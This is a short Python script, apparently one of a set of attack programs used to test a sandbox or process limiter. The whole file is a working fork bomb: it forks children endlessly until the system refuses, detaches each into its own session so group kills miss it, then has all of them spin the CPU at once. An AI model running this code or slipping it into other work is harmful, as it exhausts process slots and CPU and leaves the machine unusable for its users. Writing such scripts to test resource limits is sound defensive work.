"""Has as many processes as it may when its time is up, each in a session of its own, and then all begin to work."""

import time
from attack import *

start = time.monotonic() + 3
print("crowd", flush=True)
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            time.sleep(max(0, start - time.monotonic()))
            while True:
                pass
    except OSError:
        time.sleep(0.001)
